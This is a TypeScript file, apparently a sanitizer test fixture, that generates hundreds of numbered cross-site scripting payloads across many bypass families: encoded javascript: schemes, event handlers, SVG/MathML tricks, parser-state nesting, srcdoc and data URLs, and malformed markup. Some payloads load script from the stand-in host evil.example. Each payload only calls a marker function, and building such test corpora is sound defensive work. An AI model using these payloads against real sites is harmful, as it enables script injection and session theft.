/** Markup that tries to run a script. If it succeeds, it calls `ran` with its own number. */
export interface Payload {
  readonly number: number
  readonly family: Family
  /** At most 100 characters where possible, so that it fits a name. */
  readonly html: string
}

/** Families marked `false` do not run in today's Chromium, even unsanitized. They did in older and other browsers. */
export const FAMILIES = {
  tags: true,
  handlers: true,
  schemes: true,
  svg: true,
  mathml: true,
  nesting: true,
  encodings: true,
  documents: true,
  css: false,
  broken: true,
} as const
export type Family = keyof typeof FAMILIES

/** Builds the markup; `call` is the script to run, such as `ran(7)`. */
type Way = (call: string) => string

const each = <T>(values: readonly T[], way: (value: T) => Way): readonly Way[] => values.map(way)

const entities = (text: string, form: (code: number) => string) =>
  [...text].map((sign) => form(sign.codePointAt(0) ?? 0)).join('')
const decimal = (text: string) => entities(text, (code) => `&#${code};`)
const padded = (text: string) => entities(text, (code) => `&#${String(code).padStart(7, '0')}`)
const hex = (text: string) => entities(text, (code) => `&#x${code.toString(16)};`)
const percent = (text: string) => entities(text, (code) => `%${code.toString(16).padStart(2, '0')}`)
const escaped = (text: string) => entities(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`)
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Disguises of `javascript:` that browsers accept or have accepted, or that a careless filter misses. */
const SCHEMES: readonly string[] = [
  ...['javascript:', 'JaVaScRiPt:', ' javascript:', '\tjavascript:', '\njavascript:', '&#1;javascript:'],
  ...['java\tscript:', 'java\nscript:', 'java&Tab;script:', 'java&NewLine;script:', 'java&#10;script:'],
  ...['javascript&colon;', 'javascript&#58;', 'javascript&#x3a;', '&#106;avascript:', '&#x6A;avascript:'],
  ...['javascript://%0a', 'javascript://a.b/%0A', 'javascript:/**/', 'javascript:void 0;', 'javascript:0,'],
  ...[
    '&#14;  javascript:',
    '&nbsp;javascript:',
    'javascript\u200b:',
    'vbscript:',
    'livescript:',
    'feed:javascript:',
  ],
  ...['jar:javascript:', 'view-source:javascript:', 'data:text/html,<script>', 'data:text/javascript,'],
]

/** Elements with a URL, which is opened by a click or by itself. */
const ADDRESSED: readonly ((address: string) => string)[] = [
  (to) => `<a href="${to}">x</a>`,
  (to) => `<iframe src="${to}"></iframe>`,
  (to) => `<form action="${to}"><button>x</button></form>`,
]

/** Elements whose handlers run without user interaction. */
const HANDLERS: readonly Way[] = [
  ...each(
    ['img', 'video', 'audio', 'script', 'embed', 'image', 'iframe'],
    (tag) => (call) => `<${tag} src=x: onerror=${call}>`,
  ),
  ...each(['body', 'svg', 'style', 'iframe'], (tag) => (call) => `<${tag} onload=${call}>`),
  ...each(
    ['input', 'textarea', 'select', 'button', 'p tabindex=0', 'a href=#', 'b contenteditable'],
    (tag) => (call) => `<${tag} autofocus onfocus=${call}>`,
  ),
  ...each(['"', "'", ''], (quote) => (call) => `<img src=x: onerror=${quote}${call}${quote}>`),
  ...each(
    ['/', '\t', '\n', '\f', ' / ', '/x/'],
    (gap) => (call) => `<img${gap}src=x:${gap === '/' ? ' ' : gap}onerror=${call} >`,
  ),
  ...each(
    ['ONERROR', 'onError', 'onerror\n', 'onerror/', 'x onerror'],
    (name) => (call) => `<img src=x: ${name}=${call} >`,
  ),
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<video><source src=x: onerror=${call}></video>`,
  (call) => `<object data=x: onerror=${call}></object>`,
  (call) => `<link rel=stylesheet href=x: onerror=${call}>`,
  (call) => `<picture><source srcset=x:><img src=x: onerror=${call}></picture>`,
  (call) => `<p onclick=${call} title=">x">x</p>`,
]

/** Events that a user or a script triggers; the tests dispatch each. */
const EVENTS: readonly string[] = [
  ...'click dblclick mousedown mouseup mouseover mouseenter mousemove contextmenu wheel keydown keypress keyup'.split(
    ' ',
  ),
  ...'input change copy cut paste drag dragstart drop focusin blur scroll pointerdown pointerover'.split(' '),
  ...'pointerrawupdate touchstart auxclick animationstart animationend transitionend beforeinput selectstart'.split(
    ' ',
  ),
  ...'invalid search toggle'.split(' '),
]

/** Markup that switches the parser to another state and hides code there. */
const WRAPPERS: readonly (readonly [open: string, close: string])[] = [
  ['<noscript><p title="</noscript>', '">'],
  ['<style><a title="</style>', '">'],
  ['<textarea><a title="</textarea>', '">'],
  ['<title><a title="</title>', '">'],
  ['<xmp><a title="</xmp>', '">'],
  ['<noembed><a title="</noembed>', '">'],
  ['<noframes><a title="</noframes>', '">'],
  ['<iframe><a title="</iframe>', '">'],
  ['<script><!--</script>', ''],
  ['<!--><a title="-->', '">'],
  ['<!---!>', '-->'],
  ['<!-- --!>', '-->'],
  ['<![CDATA[><a title="]]>', '">'],
  ['<?xml >', '?>'],
  ['<table><tr><p><a title="</table>">', ''],
  ['<select><option></select>', ''],
  ['<svg><style>', '</style></svg>'],
  ['<svg><title>', '</title></svg>'],
  ['<svg><desc><p>', '</p></desc></svg>'],
  ['<svg></p><style><a title="</style>', '">'],
  ['<math><mtext><table><mglyph><style>', ''],
  ['<math><mtext><style></mtext></math>', ''],
  ['<math><annotation-xml encoding="text/html"><style></style>', ''],
  ['<form><math><mtext></form><form><mglyph><style></math>', ''],
  ['<svg><foreignObject><math><mi><style></style>', ''],
  ['<p><svg><p><style><a title="</style>', '">'],
  ['<b><p></b></p>', ''],
  ['<a><table><a>', ''],
  ['<ul><li><li></ul></li>', ''],
  ['<button><button>', '</button></button>'],
]

/** Script elements, written in different ways. */
const TAGS: readonly Way[] = [
  ...each(
    [
      'script',
      'SCRIPT',
      'ScRiPt',
      'script ',
      'script/',
      'script\n',
      'script x',
      'script/x=">"',
      'script\f',
      'script type=module',
      'script defer',
      'script type=text/ecmascript',
    ],
    (tag) => (call) => `<${tag}>${call}</script>`,
  ),
  ...each(
    ['</script >', '</script/x>', '</script\n>', '</SCRIPT x="1">', ''],
    (end) => (call) => `<script>${call};//\n</script>${end}`,
  ),
  ...each(
    ['', ' type=module', ' async', ' defer'],
    (kind) => (call) => `<script${kind} src="data:text/javascript,${call}"></script>`,
  ),
  ...each(
    [
      'https://evil.example/',
      '//evil.example/',
      '\\\\evil.example\\',
      'https:evil.example/',
      '/\t/evil.example/',
    ],
    (host) => (call) => `<script src="${host}${call}"></script>`,
  ),
  (call) => `<script type=module>import "https://evil.example/${call}"</script>`,
  (call) => `<script>import("data:text/javascript,${call}")</script>`,
  (call) => `<script>eval("${call}")</script>`,
  (call) => `<script>setTimeout("${call}")</script>`,
  (call) => `<script>Function("${call}")()</script>`,
  (call) => `<script>document.write("<script>${call}<\\/script>")</script>`,
  (call) =>
    `<script>document.body.append(Object.assign(document.createElement("script"),{text:"${call}"}))</script>`,
  (call) => `<script nonce="">${call}</script>`,
  (call) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call) => `<<script>${call}//<</script>`,
  (call) => `<script>${call}<!--</script>`,
  (call) => `<p>a</p><script\u0001>${call}</script><script>${call}</script>`,
]

const SVG: readonly Way[] = [
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<svg><script>${decimal(call)}</script></svg>`,
  (call) => `<svg><script>/*<![CDATA[*/${call}/*]]>*/</script></svg>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg><script xlink:href="data:text/javascript,${call}"/></svg>`,
  (call) => `<svg/onload=${call}>`,
  (call) => `<svg onload="${call}"><g/></svg>`,
  (call) => `<svg><g onload=${call}></g></svg>`,
  (call) => `<svg><image href=x: onerror=${call} /></svg>`,
  (call) => `<svg><animate attributeName=x dur=1ms onbegin=${call} /></svg>`,
  (call) => `<svg><set attributeName=x onbegin=${call} /></svg>`,
  (call) => `<svg><animateTransform attributeName=transform dur=1ms onend=${call} /></svg>`,
  (call) => `<svg><a href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
  (call) => `<svg><a><animate attributeName=href values="javascript:${call}"/><text y=9>x</text></a></svg>`,
  (call) => `<svg><a><set attributeName=href to="javascript:${call}"/><text y=9>x</text></a></svg>`,
  (call) => `<svg><foreignObject><iframe src="javascript:${call}"></iframe></foreignObject></svg>`,
  (call) => `<svg><foreignObject><script>${call}</script></foreignObject></svg>`,
  (call) => `<svg><desc><img src=x: onerror=${call}></desc></svg>`,
  (call) => `<svg><title><script>${call}</script></title></svg>`,
  (call) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  (call) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>">`,
  (call) =>
    `<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>"></object>`,
  (call) =>
    `<embed src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`)}">`,
]

const MATHML: readonly Way[] = [
  ...each(
    ['math', 'mi', 'mtext', 'maction', 'semantics'],
    (tag) => (call) => `<math><${tag} href="javascript:${call}">x</${tag}></math>`,
  ),
  ...each(
    ['mi', 'mo', 'mn', 'ms', 'mtext'],
    (tag) => (call) => `<math><${tag}><img src=x: onerror=${call}></${tag}></math>`,
  ),
  ...each(['mi', 'mo', 'mtext'], (tag) => (call) => `<math><${tag}><script>${call}</script></${tag}></math>`),
  ...each(
    ['text/html', 'application/xhtml+xml', 'TEXT/HTML'],
    (type) => (call) =>
      `<math><annotation-xml encoding="${type}"><img src=x: onerror=${call}></annotation-xml></math>`,
  ),
  (call) => `<math><annotation-xml><svg><script>${call}</script></svg></annotation-xml></math>`,
  (call) => `<math onfocus=${call} tabindex=0 autofocus>x</math>`,
  (call) => `<math><mi onclick=${call}>x</mi></math>`,
  (call) => `<math><mrow xlink:type=simple xlink:href="javascript:${call}">x</mrow></math>`,
]

const ENCODINGS: readonly Way[] = [
  ...each([decimal, padded, hex], (encode) => (call) => `<img src=x: onerror="${encode(call)}">`),
  ...each([decimal, padded, hex], (encode) => (call) => `<a href="${encode('javascript:')}${call}">x</a>`),
  ...each(
    [decimal, padded, hex],
    (encode) => (call) => `<iframe srcdoc="${encode(`<script>${call}</script>`)}"></iframe>`,
  ),
  (call) => `<a href="javascript:${percent(call)}">x</a>`,
  (call) => `<iframe src="javascript:${percent(call)}"></iframe>`,
  (call) => `<img src=x: onerror="${escaped('ran')}${call.slice(3)}">`,
  (call) => `<script>${escaped('ran')}${call.slice(3)}</script>`,
  (call) => `<script>window["\\x72an"]${call.slice(3)}</script>`,
  (call) => `<img src=x: onerror="top['r'+'an']${call.slice(3)}">`,
  (call) => `<img src=x: onerror="ran&lpar;${call.slice(4, -1)}&rpar;">`,
  (call) => `<img src=x: onerror="ran&lpar;${call.slice(4, -1)}&rpar;&semi;">`,
  (call) => `<img src=x: onerror="ran\`${call.slice(4, -1)}\`">`,
  (call) => `<script src="data:text/javascript;base64,${base64(call)}"></script>`,
  (call) => `<script src="data:text/javascript,${percent(call)}"></script>`,
  (call) => `<iframe src="data:text/html;base64,${base64(`<script>${call}</script>`)}"></iframe>`,
  (call) => `<object data="data:text/html;base64,${base64(`<script>${call}</script>`)}"></object>`,
  // Tags in other encodings.
  (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  (call) => `\u00bcscript\u00be${call}\u00bc/script\u00be`,
  (call) => `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  (call) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call) => `%3Cscript%3E${call}%3C/script%3E`,
  (call) => `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  (call) => `\ufeff<img src=x: onerror=${call}>`,
]

const DOCUMENTS: readonly Way[] = [
  (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe srcdoc="<img src=x: onerror=${call}>"></iframe>`,
  (call) => `<iframe srcdoc='<svg onload=${call}>'></iframe>`,
  (call) => `<iframe sandbox="allow-scripts" srcdoc="<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:'<script>${call}</script>'"></iframe>`,
  (call) => `<iframe src="https://evil.example/" onload=${call}></iframe>`,
  (call) => `<iframe name="${call}" src="javascript:eval(name)"></iframe>`,
  (call) => `<frameset onload=${call}>`,
  (call) => `<frameset><frame src="javascript:${call}"></frameset>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<object data="data:text/html,<script>${call}</script>"></object>`,
  (call) => `<embed src="javascript:${call}">`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<meta http-equiv=refresh content="0;url=data:text/html,<script>${call}</script>">`,
  (call) => `<meta http-equiv=Content-Security-Policy content="script-src *"><script>${call}</script>`,
  (call) => `<base href="javascript:/a/-${call}//"><a href="#">x</a>`,
  (call) => `<base href="https://evil.example/"><script src="${call}"></script>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<div><template shadowrootmode=open><script>${call}</script></template></div>`,
  (call) => `<div><template shadowrootmode=open><img src=x: onerror=${call}></template></div>`,
  (call) => `<link rel=import href="data:text/html,<script>${call}</script>">`,
  (call) =>
    `<link rel=modulepreload href="https://evil.example/${call}"><script src="https://evil.example/${call}"></script>`,
  (call) => `<form id=f></form><button form=f formaction="javascript:${call}">x</button>`,
  (call) => `<form><input type=submit formaction="javascript:${call}"></form>`,
  (call) => `<form><input type=image src=x: formaction="javascript:${call}"></form>`,
  (call) => `<map><area href="javascript:${call}">x</map>`,
  (call) => `<a href=x: ping="javascript:${call}" onclick=${call}>x</a>`,
  (call) => `<isindex action="javascript:${call}" type=submit>`,
]

const CSS: readonly Way[] = [
  ...each(
    ['background', 'list-style', 'content', 'cursor', '-moz-binding', 'behavior', 'filter'],
    (name) => (call) => `<p style="${name}:url(javascript:${call})">x</p>`,
  ),
  ...each(
    ['width:expression(', 'xss:expr/**/ession(', 'width:\\65xpression(', 'WIDTH:EXPRESSION('],
    (begin) => (call) => `<p style="${begin}${call})">x</p>`,
  ),
  ...each(
    ['@import "javascript:', '@import url(javascript:', '@import "data:text/css,*{x:expression('],
    (begin) => (call) => `<style>${begin}${call}"</style>`,
  ),
  (call) => `<style>*{background:url("javascript:${call}")}</style>`,
  (call) => `<link rel=stylesheet href="javascript:${call}">`,
  (call) => `<style type=text/javascript>${call}</style>`,
  (call) => `<table background="javascript:${call}"><td>x</table>`,
  (call) => `<img src="javascript:${call}">`,
  (call) => `<img dynsrc="javascript:${call}" lowsrc="javascript:${call}">`,
  (call) => `<bgsound src="javascript:${call}">`,
]

const BROKEN: readonly Way[] = [
  (call) => `<img src=x: onerror=${call}`,
  (call) => `<img src=x: onerror=${call} <`,
  (call) => `<img src=x: onerror=${call}//`,
  (call) => `<img """><script>${call}</script>">`,
  (call) => `<img src="x:"onerror="${call}">`,
  (call) => `<img src='x:'onerror='${call}'>`,
  (call) => `<img =x src=x: onerror=${call}>`,
  (call) => `<img a=">" src=x: onerror=${call}>`,
  (call) => `<img a='"' src=x: onerror=${call} b='"'>`,
  (call) => `<img a="<p title='" src=x: onerror=${call} b="'>">`,
  (call) => `"><script>${call}</script>`,
  (call) => `'><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `</title><script>${call}</script>`,
  (call) => `</textarea><script>${call}</script>`,
  (call) => `</script><script>${call}</script>`,
  (call) => `</p></div></body></html><script>${call}</script>`,
  (call) => `" autofocus onfocus=${call} x="`,
  (call) => `' onmouseover='${call}`,
  (call) => `<p/onclick=${call}/>x`,
  (call) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  (call) => `</br/onclick=${call}><img src=x: onerror=${call}>`,
  (call) => `<script>${call}`,
  (call) => `<script>${call}</script`,
  (call) => `<script <b>${call}</script>`,
  (call) => `<${'b><'.repeat(60)}img src=x: onerror=${call}>`,
  (call) => `${'<b>'.repeat(300)}<img src=x: onerror=${call}>`,
  (call) => `<!doctype x [<!ENTITY a "<script>${call}</script>">]>&a;<script>${call}</script>`,
  (call) => `${'{{'}constructor.constructor("${call}")()${'}}'}\${${call}}<%= ${call} %>`,
]

const WAYS: Readonly<Record<Family, readonly Way[]>> = {
  tags: TAGS,
  handlers: [...HANDLERS, ...each(EVENTS, (event) => (call) => `<p on${event}=${call} tabindex=0>x</p>`)],
  schemes: SCHEMES.flatMap((scheme) =>
    each(
      ADDRESSED,
      (element) => (call) => element(scheme.endsWith('>') ? `${scheme}${call}</script>` : `${scheme}${call}`),
    ),
  ),
  svg: SVG,
  mathml: MATHML,
  nesting: WRAPPERS.flatMap(([open, close]) => [
    (call: string) => `${open}<img src=x: onerror=${call}>${close}`,
    (call: string) => `${open}<script>${call}</script>${close}`,
  ]),
  encodings: ENCODINGS,
  documents: DOCUMENTS,
  css: CSS,
  broken: BROKEN,
}

const isFamily = (name: string): name is Family => name in FAMILIES

/** Every payload, each with a unique number. */
export const SCRIPT_PAYLOADS: readonly Payload[] = Object.keys(WAYS)
  .filter(isFamily)
  .flatMap((family) => WAYS[family].map((way) => ({ family, way })))
  .map(({ family, way }, number) => ({ number, family, html: way(`ran(${number})`) }))
